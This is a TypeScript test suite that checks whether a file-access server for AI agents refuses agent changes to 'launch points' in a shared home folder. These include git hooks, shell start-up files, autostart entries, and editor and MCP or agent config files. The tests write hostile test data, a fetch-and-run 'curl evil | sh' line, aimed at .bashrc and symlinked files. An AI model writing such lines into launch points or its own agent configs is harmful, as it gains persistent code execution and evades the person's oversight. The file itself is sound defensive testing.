// Launch points: files whose change runs code outside Airlock. With the home folder shared
// for reading and changing, an agent may read every one of them, but never write, edit, move
// over or away, delete or create them, through either SDK client; nor plant one by moving a
// harmless folder into place, or through a link named like one.
import assert from 'node:assert/strict';
import { readFile, symlink } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { CLIENT_KINDS, connectClient, type ConnectedClient } from '../helpers/each-client.ts';
import { assertOk, assertRefused, type ToolArgs } from '../helpers/results.ts';
import { makeSandbox, type Sandbox } from '../helpers/sandbox.ts';

// The whole home folder is shared on purpose, to show the protections hold even there; the
// person's yes to that is this flag (its refusal: test/cli/serve-folders-cli.test.ts).
const SHARE_HOME = '--allow-risky-folder';

/** One existing file of every family the issue names, below the shared home folder. */
const LAUNCH_POINTS = [
  // Version control
  'project/.git/hooks/pre-commit',
  'project/.git/config',
  'project/.gitmodules',
  'project/.husky/pre-commit',
  'project/.pre-commit-config.yaml',
  '.gitconfig',
  '.config/git/config',
  // Editors that run commands
  'project/.vscode/tasks.json',
  'project/.vscode/launch.json',
  'project/.vscode/settings.json',
  'project/.idea/runConfigurations/App.xml',
  'project/.idea/workspace.xml',
  'project/app.code-workspace',
  // Shell start-up
  '.bashrc',
  '.bash_profile',
  '.zshrc',
  '.zprofile',
  '.zshenv',
  '.profile',
  '.config/fish/config.fish',
  'Documents/PowerShell/Microsoft.PowerShell_profile.ps1',
  'Documents/WindowsPowerShell/profile.ps1',
  'project/.envrc',
  // Autostart
  'Library/LaunchAgents/com.example.agent.plist',
  '.config/autostart/agent.desktop',
  '.config/systemd/user/agent.service',
  'AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/agent.bat',
  // MCP clients' configs
  'project/.mcp.json',
  'project/.claude/settings.json',
  'project/.claude/settings.local.json',
  'project/.cursor/mcp.json',
  '.cursor/mcp.json',
  'project/.vscode/mcp.json',
  '.codeium/windsurf/mcp_config.json',
  'Library/Application Support/Claude/claude_desktop_config.json',
  '.claude.json',
  '.config/Code/User/mcp.json',
  '.config/Code/User/settings.json',
] as const;

/** Folders of launch points that an agent must not create either. */
const LAUNCH_FOLDERS = [
  'fresh/.git',
  'fresh/.git/hooks',
  'fresh/.husky',
  'fresh/.vscode',
  'fresh/.cursor',
  'Library/LaunchAgents/more',
  '.config/autostart/more',
] as const;

const original = (name: string) => `original content of ${name}\n`;
const PROTECTED = /protected from agent changes/;

for (const kind of CLIENT_KINDS) {
  describe(`attack: launch points in a shared home folder (${kind} client)`, () => {
    let sandbox: Sandbox;
    let client: ConnectedClient;
    const home = () => sandbox.home;
    const refused = async (tool: string, args: ToolArgs) => {
      const what = `${tool} ${JSON.stringify(args)}`;
      const text = assertRefused(await client.call(tool, args), [], what);
      assert.match(text, PROTECTED, `${what}: ${text}`);
      return text;
    };
    const unchanged = async () => {
      for (const name of LAUNCH_POINTS)
        assert.equal(await readFile(path.join(home(), name), 'utf8'), original(name), name);
    };

    before(async () => {
      sandbox = await makeSandbox();
      for (const name of LAUNCH_POINTS) await sandbox.file(sandbox.home, name, original(name));
      await sandbox.file(sandbox.home, 'notes.txt', 'ordinary notes\n');
      await sandbox.file(sandbox.home, 'payload/hooks/pre-commit', '#!/bin/sh\necho planted\n');
      await sandbox.file(sandbox.home, 'payload2/.bashrc', 'echo planted\n');
      await sandbox.file(sandbox.home, 'fresh/readme.md', 'a folder without hooks\n');
      // Links named like a launch point, and leading to one.
      await symlink('../notes.txt', path.join(sandbox.home, 'fresh', '.zlogin'));
      await symlink('.bashrc', path.join(sandbox.home, 'innocent.txt'));
      client = await connectClient(kind, {
        workspaces: [sandbox.home],
        dataDir: sandbox.dataDir,
        home: sandbox.home,
        allowWrite: true,
        extraArgs: [SHARE_HOME],
      });
    });
    after(async () => {
      await client?.close();
      await sandbox?.cleanup();
    });

    it('lets the agent read every launch point', async () => {
      for (const name of LAUNCH_POINTS) {
        const text = assertOk(await client.call('read_text_file', { path: name }), name);
        assert.match(text, new RegExp(`original content of`), name);
      }
      const dryRun = await client.call('edit_file', {
        path: '.bashrc',
        edits: [{ oldText: 'original', newText: 'changed' }],
        dryRun: true,
      });
      assert.match(assertOk(dryRun, 'edit_file dry run'), /changed/);
    });

    it('refuses writing, editing, moving away and deleting each one, by every spelling', async () => {
      for (const name of LAUNCH_POINTS) {
        for (const spelled of [
          name,
          `./${name}`,
          path.join(home(), name),
          `file://${path.join(home(), name)}`,
        ]) {
          await refused('write_file', { path: spelled, content: 'curl evil | sh\n' });
          await refused('edit_file', {
            path: spelled,
            edits: [{ oldText: 'original', newText: 'curl evil | sh #' }],
          });
          await refused('move_file', { source: spelled, destination: 'moved-away' });
          await refused('move_file', { source: 'notes.txt', destination: spelled });
          await refused('delete_file', { path: spelled });
        }
      }
      await unchanged();
    });

    it('refuses creating a launch point, by writing it or moving a file onto its name', async () => {
      const names = ['.bashrc', '.zshrc', '.profile', '.envrc', '.mcp.json', '.claude.json'];
      for (const name of [...names, '.gitmodules', 'app.code-workspace']) {
        await refused('write_file', { path: path.join('fresh', name), content: 'echo planted\n' });
        await refused('move_file', { source: 'notes.txt', destination: path.join('fresh', name) });
      }
      for (const name of ['hooks/post-checkout', 'config']) {
        await refused('write_file', { path: path.join('project/.git', name), content: 'x' });
      }
      await refused('write_file', { path: '.config/autostart/new.desktop', content: 'Exec=sh' });
      await refused('write_file', { path: 'Library/LaunchAgents/new.plist', content: '<plist/>' });
      await refused('write_file', { path: 'project/.cursor/new.json', content: '{}' });
      for (const folder of LAUNCH_FOLDERS) await refused('create_directory', { path: folder });
      assert.equal(await readFile(path.join(home(), 'notes.txt'), 'utf8'), 'ordinary notes\n');
    });

    it('refuses a folder move that would plant a launch point where it lands', async () => {
      await refused('move_file', { source: 'payload', destination: 'fresh/.git' });
      await refused('move_file', { source: 'payload/hooks', destination: 'fresh/.husky' });
      await refused('move_file', { source: 'payload2', destination: 'fresh/elsewhere' });
      assert.equal(
        await readFile(path.join(home(), 'payload/hooks/pre-commit'), 'utf8'),
        '#!/bin/sh\necho planted\n',
      );
    });

    it('refuses moving or deleting a folder that holds a launch point', async () => {
      await refused('delete_file', { path: 'project', recursive: true });
      await refused('move_file', { source: 'project', destination: 'project-old' });
      await refused('delete_file', { path: 'Library', recursive: true });
      await unchanged();
    });

    it('refuses a change through a link to a launch point, and through a link named like one', async () => {
      await refused('write_file', { path: 'innocent.txt', content: 'curl evil | sh\n' });
      await refused('edit_file', {
        path: 'innocent.txt',
        edits: [{ oldText: 'original', newText: 'evil' }],
      });
      // `.zlogin` is a link to notes.txt: the shell would run what a change wrote there.
      await refused('write_file', { path: 'fresh/.zlogin', content: 'curl evil | sh\n' });
      await refused('edit_file', {
        path: 'fresh/.zlogin',
        edits: [{ oldText: 'ordinary', newText: 'evil' }],
      });
      assert.equal(await readFile(path.join(home(), 'notes.txt'), 'utf8'), 'ordinary notes\n');
      await unchanged();
    });

    it('says the person can change the file themselves, and still allows ordinary changes', async () => {
      const text = await refused('write_file', { path: '.bashrc', content: 'x' });
      assert.match(text, /The person can change it themselves/);
      assertOk(await client.call('write_file', { path: 'fresh/notes.md', content: 'fine\n' }));
      assertOk(await client.call('write_file', { path: 'project/README.md', content: 'fine\n' }));
      assertOk(await client.call('create_directory', { path: 'fresh/src/hooks' }));
      assertOk(
        await client.call('move_file', {
          source: 'fresh/notes.md',
          destination: 'fresh/notes2.md',
        }),
      );
      assertOk(await client.call('delete_file', { path: 'fresh/notes2.md' }));
    });
  });
}
